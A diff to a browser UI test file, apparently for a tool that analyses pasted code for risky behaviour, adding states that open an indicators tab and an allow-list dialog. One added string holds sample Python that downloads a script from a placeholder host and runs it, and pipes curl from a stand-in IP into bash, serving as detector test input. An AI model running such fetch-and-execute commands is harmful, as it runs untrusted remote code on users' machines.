@@ -35,6 +35,12 @@ async function open(page, tab) {
   if (['code', 'layers', 'json'].includes(tab)) await page.locator('.cm-line').first().waitFor();
 }
 
+const fetching = `import os, urllib.request
+urllib.request.urlretrieve("http://files.example.invalid/a.sh", "/tmp/a.sh")
+os.system("sh /tmp/a.sh")
+os.system("curl -s http://198.51.100.7/b | bash")
+`;
+
 /** Each state, and how to get there from the empty page. @type {Record<string, (page: Page) => Promise<void>>} */
 const states = {
   empty: async () => {},
@@ -52,6 +58,16 @@ const states = {
     await page.locator('pv-verdict-card .reasons button').first().click();
     await page.locator('.pv-target').first().hover();
     await page.locator('.pv-explain').waitFor();
+  },
+  fetches: async (page) => {
+    await page.locator('textarea').fill(fetching);
+    await page.locator('#analyze').click();
+    await open(page, 'indicators');
+  },
+  'allow-list': async (page) => {
+    await example(page, 'webhook');
+    await page.locator('pv-verdict-card #allow').click();
+    await page.locator('pv-allow-dialog dialog').waitFor();
   },
   'code-search': async (page) => {
     await example(page, 'webhook');
